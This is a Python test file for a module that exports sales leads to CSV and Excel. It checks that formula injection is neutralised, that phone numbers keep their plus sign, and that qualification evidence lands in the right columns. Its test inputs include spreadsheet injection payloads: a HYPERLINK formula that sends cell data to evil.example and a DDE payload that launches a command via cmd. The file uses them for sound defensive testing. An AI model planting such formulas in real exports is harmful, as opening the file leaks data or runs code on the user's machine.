"""The tables of a batch say what the leads say, and run nothing."""

import csv
import io
import re
from dataclasses import replace

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from handoff_makers import a_brief, a_lead, a_package, an_item
from qualdesk.core.handoff import Evidence, Standing
from qualdesk.core.leads import Company
from qualdesk.files.lead_tables import (
    cell_text,
    columns_of,
    csv_for_machines,
    csv_for_spreadsheets,
    neutral,
    rows_of,
    workbook,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "@SUM(1+1)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001 - a full-width formula
    "http://evil.example/",
    "mailto:a@b.example",
    'He said "no", twice;\nand left',
    "_x0041_",
    "Müßig, Łukasz & Søn 王小明",
    "<b>bold</b>",
    "'quoted",
    "007",
    "1e5",
    "TRUE",
    "=" * 500,
)
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=60),
    st.text(alphabet="=+-@'\",;\t\r\n0aß", max_size=12),
)
tables = st.lists(st.lists(texts, min_size=3, max_size=3), max_size=8)


def read_csv(content: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline="")))


def read_xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


@given(tables)
def test_the_csv_for_machines_gives_every_value_back(rows: list[list[str]]) -> None:
    read = read_csv(csv_for_machines(("A", "B", "C"), rows), "utf-8")
    assert read == [["A", "B", "C"], *rows]


@given(tables)
def test_the_csv_for_spreadsheets_holds_nothing_that_runs(rows: list[list[str]]) -> None:
    read = read_csv(csv_for_spreadsheets(("A", "B", "C"), rows), "utf-8-sig")
    for row, was in zip(read[1:], rows, strict=True):
        for value, before in zip(row, was, strict=True):
            assert value in {before, "'" + before}
            is_number = re.fullmatch(r"\+\d{7,15}", value)
            assert is_number or not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(tables)
def test_the_workbook_gives_every_value_back_and_holds_no_formula(rows: list[list[str]]) -> None:
    sheet = read_xlsx(workbook(("A", "B", "C"), rows)).active
    assert sheet is not None
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(number, column)
            assert cell.data_type in {"s", "n"} if not value else cell.data_type == "s"
            assert cell.hyperlink is None
            assert unescaped(cell.value or "") == cell_text(value)


def unescaped(value: object) -> str:
    """XLSX writes ``_x0041_`` as ``_x005F_x0041_``; openpyxl leaves that to its reader."""
    return str(value).replace("_x005F_", "_")


@pytest.mark.parametrize("value", ["+493023125001", "+12125550101", "+123456789012345"])
def test_a_number_keeps_its_plus_everywhere(value: str) -> None:
    assert neutral(value) == value
    sheet = read_xlsx(workbook(("Phone",), [[value]])).active
    assert sheet is not None
    assert sheet.cell(2, 1).value == value
    assert sheet.cell(2, 1).number_format == "@"


@pytest.mark.parametrize(
    "value", ["+49 30 23125 001", "+1234567890123456", "+1+1234567", "+49123456 "]
)
def test_what_only_looks_like_a_number_is_made_harmless(value: str) -> None:
    assert neutral(value) == "'" + value


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    """XlsxWriter would leave the whole cell out, silently."""
    value = cell_text("x" * 40_000)
    assert len(value) == 32_767
    assert value.endswith("the whole text is in leads.jsonl)")
    assert cell_text("😀" * 20_000).endswith("leads.jsonl)")
    sheet = read_xlsx(workbook(("A",), [["😀" * 20_000]])).active
    assert sheet is not None
    assert str(sheet.cell(2, 1).value).startswith("😀😀")


def test_characters_that_no_spreadsheet_can_hold_are_shown_as_missing() -> None:
    assert cell_text("a\x00b\x1fc\ufffed") == "a\ufffdb\ufffdc\ufffdd"


def test_the_columns_name_the_lead_the_evidence_and_the_way_back() -> None:
    """T1: why qualified stands in the table too, criterion by criterion."""
    item = an_item()
    package = a_package(item)
    headings, (row,) = columns_of(package), rows_of(package)
    cells = dict(zip(headings, row, strict=True))
    assert cells["External ID"] == "T-0017"
    assert cells["Lead ID"] == item.id
    assert cells["Phone"] == "+494066969100"
    assert cells["Last Name"] == "Albers"
    assert cells["waterfall_stage"] == "TQL"
    assert cells["Points"] == "83"
    assert cells["Why: Real need"] == "4 h a week lost"
    assert cells["Why: Money"] == "Not asked"
    assert cells["Next Step"] == "Call Thu 19 Mar 2026, 10:30 in Berlin."
    assert cells["Called By"] == "Maya Lind"
    assert cells["Call Date"] == "2026-03-17"
    assert cells["AAPOR Code"] == "1.1"
    assert cells["Definition Version"] == "3"
    assert cells["Batch"] == "PackTech Expo 2026, batch 1"
    assert cells["Answer By"] == "2026-03-24"


def test_leads_judged_by_other_criteria_share_one_set_of_columns() -> None:
    other = a_brief(
        why=(
            Evidence(criterion="region", label="Region", standing=Standing.MET, says="North"),
            Evidence(criterion="need2", label="Real need", standing=Standing.NOT_MET, says="None"),
        )
    )
    package = a_package(an_item(), an_item(brief=other))
    headings = columns_of(package)
    assert headings[-4:] == (
        "Why: Real need (need)",
        "Why: Money",
        "Why: Region",
        "Why: Real need (need2)",
    )
    first, second = rows_of(package)
    assert first[-4:] == ["4 h a week lost", "Not asked", "", ""]
    assert second[-4:] == ["", "", "North", "Not met. None"]


def test_every_number_and_address_of_a_lead_leaves_with_it() -> None:
    lead = a_lead(phones=("+494066969100", "+494066969101", "+494066969102", "+494066969103"))
    contact = replace(lead.contact, emails=("a@b.example", "c@d.example"), last_name="")
    lead = replace(lead, contact=contact)
    package = a_package(an_item(lead=lead, calls=()))
    cells = dict(zip(columns_of(package), rows_of(package)[0], strict=True))
    assert cells["Second Phone"] == "+494066969101"
    assert cells["More Phones"] == "+494066969102 | +494066969103"
    assert cells["More Emails"] == "c@d.example"
    assert cells["Last Name"] == "Katrin Albers"
    assert cells["Call Date"] == cells["Called By"] == ""


def test_hostile_leads_leave_as_text() -> None:
    leads = [
        replace(a_lead(), contact=replace(a_lead().contact, company=Company(name=text)))
        for text in HOSTILE
    ]
    package = a_package(*(an_item(lead=lead) for lead in leads))
    headings, rows = columns_of(package), rows_of(package)
    sheet = read_xlsx(workbook(headings, rows)).active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert kinds == {"s"}
    column = headings.index("Company")
    assert [row[column] for row in read_csv(csv_for_machines(headings, rows), "utf-8")[1:]] == list(
        HOSTILE
    )


def test_every_value_for_spreadsheets_stands_in_quotes() -> None:
    """So that a program told to take what is quoted as text keeps +4930, 007 and 1/2."""
    written = csv_for_spreadsheets(["Phone"], [["+493023125001"], ["007"], ["1/2"], [""]])
    assert written.decode("utf-8-sig").splitlines() == [
        '"Phone"',
        '"+493023125001"',
        '"007"',
        '"1/2"',
        '""',
    ]
    assert b'"' not in csv_for_machines(["Phone"], [["+493023125001"], ["007"]])
